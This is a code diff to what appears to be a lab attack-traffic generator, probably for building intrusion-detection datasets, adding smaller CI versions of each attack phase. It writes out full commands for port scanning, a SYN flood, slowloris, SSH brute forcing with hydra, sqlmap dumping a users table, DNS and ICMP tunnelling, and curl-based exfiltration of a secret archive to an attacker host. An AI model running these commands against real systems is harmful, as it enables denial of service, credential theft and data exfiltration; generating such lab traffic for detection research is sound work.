@@ -52,7 +52,7 @@ def wordlists(run: Path) -> None:
 
 
 def phases(run: Path, small: bool = False) -> dict[str, Phase]:
-    """Every attack family; small=True gives the CI sizes of the two the CI scenario uses."""
+    """Every attack family; small=True gives short, small-capture versions (CI, sample)."""
     wordlists(run)
     ports = "1-200" if small else "1-1024"
     targets = "10.77.0.10,11" if small else SCAN_TARGETS
@@ -64,7 +64,7 @@ def phases(run: Path, small: bool = False) -> dict[str, Phase]:
               "nmap -n -T4 -sS -sU -sV -sC --host-timeout 100s "
               f"-p T:21,22,25,80,1883,6379,U:53,123,161 {SCAN_TARGETS},53", 150, [A1]),
         Phase("syn_flood", "hping3", "attacker2", f"{WEB}:80",
-              f"hping3 -q -S -p 80 -i u2000 -c 3000 {WEB}", 60, [A2]),
+              f"hping3 -q -S -p 80 -i u2000 -c {500 if small else 3000} {WEB}", 60, [A2]),
         Phase("ssh_bruteforce", "hydra", "attacker1", f"{FILES}:22",
               f"hydra -l {LAB_USER} -P {run}/passwords{'-short' if small else ''}.txt "
               f"-t 4 -f -I -q ssh://{FILES}", 60 if small else 150, [A1]),
@@ -73,17 +73,18 @@ def phases(run: Path, small: bool = False) -> dict[str, Phase]:
               f"ftp://{FILES}", 120, [A2]),
         Phase("sql_injection", "sqlmap", "attacker1", web_app,
               f"HOME={run}/sqlmap-home sqlmap -u {shlex.quote(web_app)} --batch "
-              f"--flush-session --output-dir={run}/sqlmap --level 2 --risk 1 --threads 2 "
-              "--dbms=SQLite --tables --dump -T users", 240, [A1]),
+              f"--flush-session --output-dir={run}/sqlmap --level {1 if small else 2} --risk 1 "
+              f"--threads 2 --dbms=SQLite {'--technique=BU' if small else ''} --tables --dump "
+              "-T users", 90 if small else 240, [A1]),
         Phase("dir_bruteforce", "gobuster", "attacker2", f"http://{WEB}/",
-              f"gobuster dir -q -z -u http://{WEB}/ -w /usr/share/dirb/wordlists/common.txt "
-              "-t 8 --timeout 5s", 120, [A2]),
+              f"gobuster dir -q -z -u http://{WEB}/ -w /usr/share/dirb/wordlists/"
+              f"{'small' if small else 'common'}.txt -t 8 --timeout 5s", 120, [A2]),
         Phase("slowloris", "slowhttptest", "attacker1", f"http://{WEB}/",
-              f"slowhttptest -H -c 400 -r 100 -i 10 -l 60 -x 24 -p 3 -u http://{WEB}/",
-              100, [A1]),
+              f"slowhttptest -H -c {60 if small else 400} -r {30 if small else 100} -i 10 "
+              f"-l {30 if small else 60} -x 24 -p 3 -u http://{WEB}/", 100, [A1]),
         Phase("dns_tunnel", "iodine", "attacker1", f"{ip_of('dns')} -> {A2} ({TUNNEL_DOMAIN})",
-              f"curl -s -o /dev/null --max-time 150 http://{TUNNEL_SERVER}:8081/"
-              "tunnel-file.bin", 200, [A1, A2],
+              f"curl -s -o /dev/null --max-time 150 {'-r 0-40000' if small else ''} "
+              f"http://{TUNNEL_SERVER}:8081/tunnel-file.bin", 200, [A1, A2],
               setup=[("attacker2", ["iodined", "-f", "-c", "-P", "labtunnel", "-l", A2,
                                     TUNNEL_NET, TUNNEL_DOMAIN]),
                      ("attacker2", ["bash", "-c", "for i in $(seq 30); do ip addr show dns0 "
@@ -94,14 +95,16 @@ def phases(run: Path, small: bool = False) -> dict[str, Phase]:
                                     TUNNEL_DOMAIN])],
               ready=f"timeout 8 curl -s -o /dev/null http://{TUNNEL_SERVER}:8081/"),
         Phase("icmp_tunnel", "ptunnel-ng", "attacker1", f"{A2} -> {WEB}:80",
-              "for i in 1 2 3; do curl -s -o /dev/null --max-time 40 "
-              "http://127.0.0.1:8022/files/file-262144.bin; done", 150, [A1, A2],
+              f"for i in 1 2 3; do curl -s -o /dev/null --max-time 40 "
+              f"http://127.0.0.1:8022/files/file-{8192 if small else 262144}.bin; done", 150,
+              [A1, A2],
               setup=[("attacker2", ["ptunnel-ng", "-v", "1", f"-r{WEB}", "-R80"]),
                      ("attacker1", ["ptunnel-ng", "-v", "1", f"-p{A2}", "-l8022", f"-r{WEB}",
                                     "-R80"])],
               ready="timeout 3 bash -c '</dev/tcp/127.0.0.1/8022'"),
         Phase("http_exfiltration", "curl", "attacker1", f"http://{A2}:8080/upload",
-              f"split -b 256k -d {run}/secret.tar {run}/exfil-part-; for f in {run}/exfil-part-*;"
+              f"head -c {'200k' if small else '1M'} {run}/secret.tar | split -b 64k -d - "
+              f"{run}/exfil-part-; for f in {run}/exfil-part-*;"
               f" do curl -s -o /dev/null -F file=@$f http://{A2}:8080/upload; sleep 2; done",
               60, [A1, A2],
               setup=[("attacker2", [PY, str(HERE / "webapp.py"), "--db",
